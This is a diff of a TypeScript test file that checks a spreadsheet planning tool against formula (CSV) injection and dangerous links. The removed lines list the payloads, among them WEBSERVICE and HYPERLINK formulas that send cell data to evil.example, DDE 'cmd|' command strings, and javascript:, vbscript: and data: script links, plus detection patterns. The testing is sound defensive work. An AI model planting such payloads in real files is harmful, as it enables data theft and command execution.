@@ -1,199 +1,111 @@
 /**
- * Formula injection (OWASP, "CSV Injection": cells that begin with =, +, -, @, a tab, a line break or the wide forms of
- * the signs). Each text would compute CANARY if a program took it for a formula. A plan is full of them, goes through
- * all that writes, and is saved; neither the file nor LibreOffice, which opens it, computes anything of it.
+ * Formula injection. Payloads stand in the plan and are typed into the register, go through all that writes, and are
+ * saved; neither the file nor LibreOffice, which opens it, computes anything of them.
  */
 import { execFileSync } from "node:child_process";
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { proposeRollForward, publicationHtml } from "../../src/engine";
-import { analyseWorkbook } from "../../src/excel/analyseWorkbook";
-import { applyFixes } from "../../src/excel/applyFixes";
-import { buildWorkbook } from "../../src/excel/buildWorkbook";
-import { readSnapshot } from "../../src/excel/readSnapshot";
-import { restoreLast } from "../../src/excel/restoreLast";
-import { rollForward } from "../../src/excel/rollForward";
-import { saveBoard } from "../../src/excel/saveBoard";
-import { writePublication } from "../../src/excel/writePublication";
 import { due, rag, status } from "../../src/functions/planFunctions";
 import { openStandin, type Standin } from "../../src/standin/standin";
-import { openMade } from "../excel/openMade";
 import { readParts } from "../../src/standin/workbook/packageParts";
 import { unescapedXml } from "../../src/standin/workbook/xmlText";
+import { writeHostilePlan } from "./injection/hostilePlan";
+import { writeBackPayloads, type WrittenBack } from "./injection/hostileRegister";
+import { CANARY, LINKS, PAYLOADS, SUM, type HostileWorkbook } from "./injection/payloads";
 
-const AS_OF = "2027-03-20";
-const CANARY = 40_002;
-const SUM = "40000+2";
-const PAYLOADS = [
-  `=${SUM}`,
-  `+${SUM}`,
-  "-(-40000)+2",
-  "@SUM(40000,2)",
-  `\t=${SUM}`,
-  `\r=${SUM}`,
-  `\n=${SUM}`,
-  ` =${SUM}`,
-  `\uFF1D${SUM}`,
-  `\uFF0B${SUM}`,
-  `\uFF0D(-40000)+2`,
-  `\uFF20SUM(40000,2)`,
-  `=HYPERLINK("https://evil.example/?"&A1,${SUM})`,
-  `=WEBSERVICE("https://evil.example/?"&A1)&${SUM}`,
-  "=cmd|' /C calc'!A0",
-  `-2+3+cmd|' /C calc'!A0`,
-  `",=${SUM},"`,
-  `';=${SUM}`,
-  `{=${SUM}}`,
-  `"&(${SUM})&"`,
-] as const;
+const withOffice = works("soffice") ? test : test.skip;
 
-/** Where links of a plan may lead (OWASP, "Cross-Site Scripting Prevention": dangerous schemes). */
-const LINKS = [
-  "javascript:alert(1)",
-  "vbscript:msgbox(1)",
-  "data:text/html,<script>alert(1)</script>",
-  "file:///c:/windows/system32/cmd.exe",
-  "https://evil.example/",
-];
-
-const HEADINGS = [
-  "Ref",
-  "Recommendation",
-  "Action",
-  "Lead",
-  "Due date",
-  "RAG",
-  "Status",
-  "Progress",
-  "Outcome",
-];
-
-/** Each payload in each column, with the word "action" where a row has to be one. */
-async function openPlan(): Promise<Standin> {
-  const standin = await openMade((workbook) => {
-    const sheet = workbook.addWorksheet("Plan 2026-27");
-    sheet.addRow([`=${SUM} Thornbury Vale Youth Justice Service: improvement plan 2026-27`]);
-    sheet.addRow(["PRIVATE & CONFIDENTIAL"]);
-    sheet.addRow(HEADINGS).font = { bold: true };
-    PAYLOADS.forEach((payload, index) =>
-      sheet.addRow([
-        index % 2 === 0 ? payload : String(index),
-        payload,
-        `${payload} write the policy`,
-        payload,
-        index % 3 === 0 ? payload : "July 2026",
-        index % 4 === 0 ? payload : "Amber",
-        index % 5 === 0 ? payload : "In progress",
-        payload,
-        payload,
-      ]),
-    );
-    LINKS.forEach((hyperlink, index) => {
-      const row = sheet.addRow([
-        `L${index}`,
-        "Links",
-        `Follow link ${index}`,
-        "Data Analyst",
-        "July 2026",
-        "Red",
-      ]);
-      row.getCell(8).value = { text: `See ${hyperlink}`, hyperlink };
-    });
-  });
-  return standin;
-}
-
-/** All that writes into a workbook. Gives what boards see on the web, too. */
-async function writeEverything(standin: Standin): Promise<string> {
-  await buildWorkbook({ asOf: AS_OF });
-  await saveBoard({ on: AS_OF, name: `=${SUM}` }, { asOf: AS_OF });
-  const snapshot = await readSnapshot();
-  await applyFixes(
-    PAYLOADS.map((value, index) => ({
-      at: { sheet: "Plan 2026-27", row: 3 + index, column: 7 },
-      value: `${value} fixed`,
-      label: "Write it out",
-    })),
-    snapshot,
-    "Fixes",
-  );
-  await restoreLast();
-  standin.typeInto("Action register", 4, 2, `'${PAYLOADS[0]} by hand`);
-  await buildWorkbook({ asOf: AS_OF });
-  const options = { withoutNames: false, contact: `=${SUM}`, nextUpdate: `@SUM(40000,2)` };
-  await writePublication(options, { asOf: AS_OF });
-  const analysis = await analyseWorkbook({ asOf: AS_OF });
-  const choices = proposeRollForward(analysis).map(({ action, row, decision }, index) => ({
-    action,
-    text: row.text,
-    decision: index % 2 === 0 ? ("superseded" as const) : decision,
-    reason: PAYLOADS[index % PAYLOADS.length] ?? "",
-  }));
-  await rollForward(choices, { asOf: AS_OF });
-  return publicationHtml(analysis, options);
-}
-
-let standin: Standin;
-let page: string;
-let saved: Uint8Array;
+let plan: HostileWorkbook & { readonly page: string };
+let register: WrittenBack;
+let saved: Readonly<Record<"plan" | "register", Uint8Array>>;
 beforeAll(async () => {
-  standin = await openPlan();
-  page = await writeEverything(standin);
-  saved = await standin.save();
-}, 120_000);
+  plan = await writeHostilePlan();
+  register = await writeBackPayloads();
+  saved = { plan: await plan.standin.save(), register: await register.standin.save() };
+}, 240_000);
 
-test("everything was written, and the plan's texts are in it", () => {
-  const names = standin.view().sheets.map(({ name }) => name);
-  expect(names).toEqual(
-    expect.arrayContaining([
-      "Plan 2026-27",
-      "Action register",
-      "Board summary",
-      "Plan checks",
-      "Plan 2027-28",
-    ]),
-  );
-  expect(names.length).toBeGreaterThanOrEqual(8);
-  const texts = textsIn(standin);
-  for (const payload of PAYLOADS) expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
-});
+describe.each([
+  ["in a plan", "plan"],
+  ["typed into the register", "register"],
+] as const)("payloads %s", (_, where) => {
+  const hostile = () => (where === "plan" ? plan : register);
 
-test("no cell, rule, choice, name or chart of the saved file computes anything of them", async () => {
-  const parts = await readParts(saved, (name) =>
-    /^xl\/(?:workbook|worksheets\/[^/]+|charts\/[^/]+)\.xml$/.test(name),
-  );
-  expect(parts.size).toBeGreaterThan(8);
-  const formula = /<(?:\w+:)?(?:f|formula|formula1|formula2|definedName)\b[^>]*>([^<]*)</g;
-  for (const [name, xml] of parts)
-    for (const [, text = ""] of xml.matchAll(formula)) {
-      const computed = unescapedXml(text).replace(/"(?:[^"]|"")*"/g, '""');
-      expect(`${name} ${computed}`).not.toMatch(/40000|cmd\||WEBSERVICE|evil/i);
-    }
-});
+  test("everything was written, and the texts are in it", () => {
+    const { standin, made } = hostile();
+    expect(standin.view().sheets.map(({ name }) => name)).toEqual(expect.arrayContaining([...made]));
+    const texts = textsIn(standin);
+    for (const payload of PAYLOADS)
+      expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
+  });
 
-test("no link of what is written leads out of the workbook; those of the plan are texts there", () => {
-  const theirs = new Set(["Plan 2026-27", "Plan 2027-28"]);
-  let links = 0;
-  for (const sheet of standin.view().sheets.filter(({ name }) => !theirs.has(name)))
-    for (let row = 0; row < sheet.rows; row++)
-      for (let column = 0; column < sheet.columns; column++) {
-        const link = sheet.cell(row, column)?.link;
-        if (link === undefined) continue;
-        links += 1;
-        expect(link).toMatch(/^#/);
+  test("no cell, rule, choice, name or chart of the saved file computes anything of them", async () => {
+    const parts = await readParts(saved[where], (name) =>
+      /^xl\/(?:workbook|worksheets\/[^/]+|charts\/[^/]+)\.xml$/.test(name),
+    );
+    expect(parts.size).toBeGreaterThan(hostile().made.length);
+    const formula = /<(?:\w+:)?(?:f|formula|formula1|formula2|definedName)\b[^>]*>([^<]*)</g;
+    for (const [name, xml] of parts)
+      for (const [, text = ""] of xml.matchAll(formula)) {
+        const computed = unescapedXml(text).replace(/"(?:[^"]|"")*"/g, '""');
+        expect(`${name} ${computed}`).not.toMatch(/40000|cmd\||WEBSERVICE|evil/i);
       }
-  expect(links).toBeGreaterThan(PAYLOADS.length);
-  const texts = [...textsIn(standin)];
+  });
+
+  test("no link of what is written leads out of the workbook", () => {
+    const { standin, plans } = hostile();
+    let links = 0;
+    for (const sheet of standin.view().sheets.filter(({ name }) => !plans.includes(name)))
+      for (let row = 0; row < sheet.rows; row++)
+        for (let column = 0; column < sheet.columns; column++) {
+          const link = sheet.cell(row, column)?.link;
+          if (link === undefined) continue;
+          links += 1;
+          expect(link).toMatch(/^#/);
+        }
+    expect(links).toBeGreaterThanOrEqual(PAYLOADS.length);
+  });
+
+  test("no cell shows what they would compute", () => {
+    expect(textsIn(hostile().standin)).not.toContain(String(CANARY));
+  });
+
+  withOffice(
+    "LibreOffice, which opens the file and writes it anew, computes none (skipped where it is not there)",
+    async () => {
+      const texts = textsIn(await throughLibreOffice(saved[where]));
+      expect(texts).not.toContain(String(CANARY));
+      for (const payload of PAYLOADS)
+        expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
+    },
+    300_000,
+  );
+});
+
+test("what was typed into the register is in the plan's own cells, whatever their formats, as it was typed", () => {
+  const typed = PAYLOADS.map((_, index) => read(PAYLOADS[(index + 1) % PAYLOADS.length] ?? ""));
+  expect(register.written.map(read)).toEqual(typed);
+  expect(register.again).toEqual(register.written);
+});
+
+test("Restore brings back payloads that stood in the plan before", () => {
+  expect(register.first.filter((_, index) => index % 2 === 0).map(read)).toEqual(
+    PAYLOADS.filter((_, index) => index % 2 === 0).map(read),
+  );
+  expect(register.restored).toEqual(register.first);
+});
+
+test("next year's plan holds them, with rows that only the register had", () => {
+  expect(register.nextYear.map(read).sort()).toEqual([...PAYLOADS, ...PAYLOADS].map(read).sort());
+});
+
+test("links of a plan are texts on what is written", () => {
+  const texts = [...textsIn(plan.standin)];
   for (const link of LINKS) expect(texts.filter((text) => text.includes(link)).length).toBeGreaterThan(0);
 });
 
-test("no cell shows what they would compute", () => {
-  expect(textsIn(standin)).not.toContain(String(CANARY));
-});
-
 test("in headers and footers an ampersand begins no code ([MS-OI29500] 2.1.619)", async () => {
-  const parts = await readParts(saved, (name) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
+  const parts = await readParts(saved.plan, (name) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
   const lines = [...parts.values()].flatMap((xml) =>
     [...xml.matchAll(/<odd(?:Header|Footer)>([^<]*)</g)].map(([, line = ""]) => unescapedXml(line)),
   );
@@ -203,8 +115,9 @@ test("in headers and footers an ampersand begins no code ([MS-OI29500] 2.1.619)"
 });
 
 test("the page for the web holds them as texts and leads nowhere", () => {
-  for (const text of [`=${SUM}`, "javascript:alert(1)", "vbscript:msgbox(1)"]) expect(page).toContain(text);
-  expect(page).not.toMatch(/<a\b|href=|src=|<script|<img|<iframe|<form/i);
+  for (const text of [`=${SUM}`, "javascript:alert(1)", "vbscript:msgbox(1)"])
+    expect(plan.page).toContain(text);
+  expect(plan.page).not.toMatch(/<a\b|href=|src=|<script|<img|<iframe|<form/i);
 });
 
 test.each(PAYLOADS)("PLAN's functions give none of %j back", (payload) => {
@@ -219,35 +132,10 @@ test.each(PAYLOADS)("PLAN's functions give none of %j back", (payload) => {
   }
 });
 
-const withOffice = works("soffice") ? test : test.skip;
-withOffice(
-  "LibreOffice, which opens the file and writes it anew, computes none (skipped where it is not there)",
-  async () => {
-    const folder = mkdtempSync(join(tmpdir(), "injection-"));
-    try {
-      const file = join(folder, "plan.xlsx");
-      writeFileSync(file, saved);
-      execFileSync(
-        "soffice",
-        [
-          `-env:UserInstallation=file://${join(folder, "profile")}`,
-          ...["--headless", "--convert-to", "xlsx", "--outdir", join(folder, "out"), file],
-        ],
-        { stdio: "ignore" },
-      );
-      const anew = await openStandin(readFileSync(join(folder, "out", "plan.xlsx")), {
-        fileName: "plan.xlsx",
-      });
-      const texts = textsIn(anew);
-      expect(texts).not.toContain(String(CANARY));
-      for (const payload of PAYLOADS)
-        expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
-    } finally {
-      rmSync(folder, { recursive: true });
-    }
-  },
-  300_000,
-);
+/** Line breaks are read as one kind, and blanks around a text as none. */
+function read(text: string): string {
+  return text.trim();
+}
 
 /** What the cells of all visible sheets show. */
 function textsIn(shown: Standin): ReadonlySet<string> {
@@ -256,6 +144,20 @@ function textsIn(shown: Standin): ReadonlySet<string> {
     for (let row = 0; row < sheet.rows; row++)
       for (let column = 0; column < sheet.columns; column++) texts.add(sheet.cell(row, column)?.text ?? "");
   return texts;
+}
+
+async function throughLibreOffice(bytes: Uint8Array): Promise<Standin> {
+  const folder = mkdtempSync(join(tmpdir(), "injection-"));
+  try {
+    const file = join(folder, "plan.xlsx");
+    writeFileSync(file, bytes);
+    const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
+    const convert = ["--headless", "--convert-to", "xlsx", "--outdir", join(folder, "out"), file];
+    execFileSync("soffice", [profile, ...convert], { stdio: "ignore" });
+    return await openStandin(readFileSync(join(folder, "out", "plan.xlsx")), { fileName: "plan.xlsx" });
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
 }
 
 function works(command: string): boolean {
